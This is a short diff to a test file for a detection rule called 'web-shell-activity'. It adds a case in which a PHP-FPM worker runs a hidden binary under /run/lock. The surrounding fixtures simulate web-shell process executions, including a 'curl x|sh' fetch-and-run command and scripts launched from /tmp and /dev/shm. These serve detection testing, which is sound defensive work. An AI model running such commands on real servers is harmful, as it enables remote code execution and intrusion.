@@ -123,6 +123,7 @@ describe('rule web-shell-activity: review findings 5 and 6', () => {
       exec('/usr/bin/id', ['id'], proc(7001, '/usr/bin/xargs', ['xargs', 'id'], 'xargs'), phpFpm),
       exec('/usr/bin/python3', ['python3', '/tmp/x.py'], phpFpm),
       exec('/usr/bin/perl', ['perl', '/dev/shm/a'], phpFpm),
+      exec('/run/lock/.x', ['/run/lock/.x'], phpFpm),
       exec('/usr/bin/java', ['java', '-jar', '/tmp/x.jar'], nginx),
       exec('/bin/sh', ['sh', '-c', '/usr/sbin/sendmail -t </dev/null; id; curl x|sh'], phpFpm),
       exec('/bin/sh', ['sh', '-c', 'logger "$(id)"'], phpFpm),
